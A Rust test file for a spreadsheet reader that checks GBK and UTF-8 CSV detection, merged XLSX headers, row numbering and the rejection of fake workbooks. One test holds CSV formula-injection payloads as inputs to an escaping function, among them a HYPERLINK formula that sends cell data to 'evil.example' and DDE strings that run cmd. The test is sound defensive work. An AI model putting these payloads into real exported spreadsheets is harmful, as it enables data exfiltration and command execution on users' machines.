#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use super::*;
use proptest::prelude::*;
use rust_xlsxwriter::{ExcelDateTime, Format as Fmt, Workbook};

fn temp(name: &str, bytes: &[u8]) -> std::path::PathBuf {
    let dir = std::env::temp_dir().join(format!("jy-sheets-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let p = dir.join(name);
    std::fs::write(&p, bytes).unwrap();
    p
}

fn texts(r: &Row) -> Vec<String> {
    r.cells.iter().map(Value::text).collect()
}

#[test]
fn gbk_csv_from_a_chinese_excel_is_read_as_chinese() {
    let (bytes, _, bad) =
        encoding_rs::GBK.encode("学籍号,姓名,性别\nG330102201601010011,张三,男\n");
    assert!(!bad);
    let p = temp("gbk.csv", &bytes);
    let (format, rows) = read_all(&p).unwrap();
    assert_eq!(format, Format::Csv("GB18030"));
    assert_eq!(texts(&rows[0]), ["学籍号", "姓名", "性别"]);
    assert_eq!(texts(&rows[1]), ["G330102201601010011", "张三", "男"]);
    assert_eq!(rows[1].number, 2);
    // 症 in GBK is D6 A2, which is also valid UTF-8 (U+05A2, a Hebrew point): still GBK.
    let (bytes, _, _) = encoding_rs::GBK.encode("\"症\"\n");
    assert!(std::str::from_utf8(&bytes).is_ok());
    assert_eq!(sniff(&bytes, true), Format::Csv("GB18030"));
}

#[test]
fn utf8_csv_with_bom_loses_the_bom_and_blank_lines_are_skipped() {
    let p = temp(
        "bom.csv",
        "\u{feff}学籍号,姓名\n\n,\nG1,\"李, 四\"\n".as_bytes(),
    );
    let (format, rows) = read_all(&p).unwrap();
    assert_eq!(format, Format::Csv("UTF-8"));
    assert_eq!(rows.len(), 2, "the empty lines are not rows");
    assert_eq!(texts(&rows[0])[0], "学籍号", "no BOM in the first header");
    assert_eq!(texts(&rows[1]), ["G1", "李, 四"]);
    assert_eq!(rows[1].number, 4, "the row number is the line in the file");
}

#[test]
fn xlsx_with_a_merged_two_line_header_and_excel_dates() {
    let mut wb = Workbook::new();
    let ws = wb.add_worksheet();
    let merged = Fmt::new();
    ws.merge_range(0, 0, 0, 1, "学生信息", &merged).unwrap();
    ws.merge_range(0, 2, 0, 3, "监护人信息", &merged).unwrap();
    for (c, h) in ["姓名", "出生日期", "姓名", "电话"].iter().enumerate() {
        ws.write_string(1, c as u16, *h).unwrap();
    }
    let date = Fmt::new().set_num_format("yyyy-mm-dd");
    ws.write_string(2, 0, "张三").unwrap();
    ws.write_datetime_with_format(2, 1, ExcelDateTime::from_ymd(2016, 9, 1).unwrap(), &date)
        .unwrap();
    ws.write_string(2, 2, "张父").unwrap();
    ws.write_number(2, 3, 13800138000.0).unwrap();
    let p = temp("merged.xlsx", &wb.save_to_buffer().unwrap());
    let (format, rows) = read_all(&p).unwrap();
    assert_eq!(format, Format::Xlsx);
    assert_eq!(
        texts(&rows[0]),
        ["学生信息", "学生信息", "监护人信息", "监护人信息"],
        "merged header repeated into every column it spans"
    );
    assert_eq!(texts(&rows[1]), ["姓名", "出生日期", "姓名", "电话"]);
    assert_eq!(rows[2].number, 3);
    // 2016-09-01 is serial 42614 in the 1900 date system.
    assert_eq!(rows[2].cells[1], Value::Date(42614.0));
    assert_eq!(
        rows[2].cells[3].text(),
        "13800138000",
        "no .0 on whole numbers"
    );
}

#[test]
fn reading_stops_when_asked() {
    let mut wb = Workbook::new();
    let ws = wb.add_worksheet();
    for r in 0..100u32 {
        ws.write_number(r, 0, f64::from(r)).unwrap();
    }
    let p = temp("stop.xlsx", &wb.save_to_buffer().unwrap());
    let mut seen = 0;
    for_each_row(&p, |_| {
        seen += 1;
        if seen == 10 {
            ControlFlow::Break(())
        } else {
            ControlFlow::Continue(())
        }
    })
    .unwrap();
    assert_eq!(seen, 10);
}

#[test]
fn files_that_are_not_spreadsheets_say_so() {
    // A zip that is not a workbook (an executable renamed .xlsx would be refused the same way).
    let p = temp("fake.xlsx", b"PK\x03\x04 definitely not a workbook");
    let e = read_all(&p).unwrap_err();
    assert_eq!(e.code(), "unreadable", "{e}");
    let p = temp(
        "fake.xls",
        &[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0, 0],
    );
    let e = read_all(&p).unwrap_err();
    assert_eq!(e.code(), "unreadable", "{e}");
    let p = std::env::temp_dir().join("jy-sheets-missing.csv");
    assert_eq!(read_all(&p).unwrap_err().code(), "io");
}

proptest! {
    /// Any UTF-8 text is sniffed as UTF-8 even when the sample cuts a character in two; GBK
    /// text with Chinese in it is not mistaken for UTF-8, unless its bytes also read as UTF-8
    /// Chinese (mojibake such as 閫燖, undecidable from the bytes; UTF-8 wins then).
    #[test]
    fn sniffing_tells_utf8_from_gbk(s in "[a-z0-9,]{0,20}[\u{4e00}-\u{9fa5}]{1,40}", cut in 0usize..200) {
        let utf8 = s.as_bytes();
        let cut = cut.min(utf8.len());
        prop_assert_eq!(sniff(&utf8[..cut], false), Format::Csv("UTF-8"));
        prop_assert_eq!(sniff(utf8, true), Format::Csv("UTF-8"));
        let (gbk, _, _) = encoding_rs::GBK.encode(&s);
        prop_assume!(std::str::from_utf8(&gbk).is_err());
        prop_assert_eq!(sniff(&gbk, true), Format::Csv("GB18030"));
    }

    /// A CSV written in either encoding reads back cell for cell (GBK bytes that also read as
    /// UTF-8, such as 绉峂 = 种M, are undecidable; see `sniffing_tells_utf8_from_gbk`).
    #[test]
    fn csv_round_trips_in_both_encodings(cells in proptest::collection::vec("[\u{4e00}-\u{9fa5}a-zA-Z0-9 ]{1,12}", 1..6), gbk in any::<bool>()) {
        let line = cells.iter().map(|c| format!("\"{c}\"")).collect::<Vec<_>>().join(",");
        let text = format!("{line}\n");
        let bytes = if gbk { encoding_rs::GBK.encode(&text).0.into_owned() } else { text.into_bytes() };
        prop_assume!(!gbk || line.is_ascii() || std::str::from_utf8(&bytes).is_err());
        let p = temp(&format!("rt-{gbk}.csv"), &bytes);
        let (_, rows) = read_all(&p).unwrap();
        let want: Vec<String> = cells.clone();
        if cells.iter().all(|c| c.trim().is_empty()) {
            prop_assert!(rows.is_empty());
        } else {
            prop_assert_eq!(texts(&rows[0]), want);
        }
    }
}

#[test]
fn csv_cells_that_start_a_formula_are_neutralised() {
    for bad in [
        "=HYPERLINK(\"http://evil.example/?\"&A2,\"click\")",
        "=cmd|' /C calc'!A0",
        "@SUM(1,1)",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "\tx",
        "\rx",
    ] {
        assert_eq!(crate::neutralise(bad), format!("'{bad}"));
    }
    assert_eq!(crate::neutralise("张三"), "张三");
    assert_eq!(crate::neutralise("a=b"), "a=b");
    let text = crate::csv_text(&["姓名", "=H"], &[vec!["=1+1", "ok"]]).unwrap();
    assert_eq!(text, "姓名,'=H\n'=1+1,ok\n");
}

/// How a sheet was saved: the row numbers read back must be the rows Excel and WPS show.
#[derive(Debug, Clone, Copy)]
enum Saved {
    Csv {
        gbk: bool,
        bom: bool,
        ending: &'static str,
    },
    Xlsx,
}

fn saved() -> impl Strategy<Value = Saved> {
    prop_oneof![
        (
            any::<bool>(),
            any::<bool>(),
            prop::sample::select(vec!["\n", "\r\n", "\r"])
        )
            .prop_map(|(gbk, bom, ending)| Saved::Csv {
                gbk,
                bom: bom && !gbk,
                ending
            }),
        Just(Saved::Xlsx),
    ]
}

fn save(rows: &[Vec<String>], how: Saved, name: &str) -> std::path::PathBuf {
    match how {
        Saved::Csv { gbk, bom, ending } => {
            let mut text = String::new();
            for row in rows {
                let cells: Vec<String> = row
                    .iter()
                    .map(|c| {
                        if c.contains([',', '"', '\n']) {
                            format!("\"{}\"", c.replace('"', "\"\""))
                        } else {
                            c.clone()
                        }
                    })
                    .collect();
                text.push_str(&cells.join(","));
                text.push_str(ending);
            }
            let mut bytes = if bom {
                vec![0xEF, 0xBB, 0xBF]
            } else {
                Vec::new()
            };
            if gbk {
                bytes.extend_from_slice(&encoding_rs::GBK.encode(&text).0);
            } else {
                bytes.extend_from_slice(text.as_bytes());
            }
            temp(&format!("{name}.csv"), &bytes)
        }
        Saved::Xlsx => {
            let mut wb = Workbook::new();
            let ws = wb.add_worksheet();
            for (r, row) in rows.iter().enumerate() {
                for (c, cell) in row.iter().enumerate() {
                    if !cell.is_empty() {
                        ws.write_string(r as u32, c as u16, cell).unwrap();
                    }
                }
            }
            let p = std::env::temp_dir()
                .join(format!("jy-sheets-{}", std::process::id()))
                .join(format!("{name}.xlsx"));
            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
            wb.save(&p).unwrap();
            p
        }
    }
}

/// A sheet as schools send it: maybe a title row above the header, blank rows, cells with
/// commas, quotes and line breaks.
fn school_sheet() -> impl Strategy<Value = Vec<Vec<String>>> {
    let cell = prop_oneof![
        4 => "[\u{4e00}-\u{9fa5}a-zA-Z0-9]{1,6}",
        1 => "[\u{4e00}-\u{9fa5}]{1,3}[,\"\n][\u{4e00}-\u{9fa5}]{1,3}",
        1 => Just(String::new()),
    ];
    let row = prop_oneof![
        6 => proptest::collection::vec(cell, 1..5),
        1 => Just(vec![String::new()]),
    ];
    (any::<bool>(), proptest::collection::vec(row, 1..12)).prop_map(|(title, mut rows)| {
        rows.insert(0, vec!["姓名".into(), "学籍号".into()]);
        if title {
            rows.insert(0, vec!["上城区实验小学学生名单".into()]);
        }
        rows
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]

    /// Every row read has the number Excel and WPS show for it, whatever the format, encoding,
    /// BOM, line ending and title row, with blank rows and cells over several lines.
    #[test]
    fn row_numbers_are_the_rows_excel_shows(rows in school_sheet(), how in saved(), n in 0u32..1_000_000) {
        let p = save(&rows, how, &format!("rows-{n}"));
        let (_, read) = read_all(&p).unwrap();
        let want: Vec<(u32, Vec<String>)> = rows
            .iter()
            .enumerate()
            .filter(|(_, r)| r.iter().any(|c| !c.trim().is_empty()))
            .map(|(i, r)| (i as u32 + 1, without_trailing_empty(r.clone())))
            .collect();
        let got: Vec<(u32, Vec<String>)> =
            read.iter().map(|r| (r.number, without_trailing_empty(texts(r)))).collect();
        prop_assert_eq!(got, want, "{:?}", how);
    }
}

/// A row's cells without the empty ones at its end (XLSX pads rows to the sheet's width).
fn without_trailing_empty(mut cells: Vec<String>) -> Vec<String> {
    while cells.last().is_some_and(String::is_empty) {
        cells.pop();
    }
    cells
}
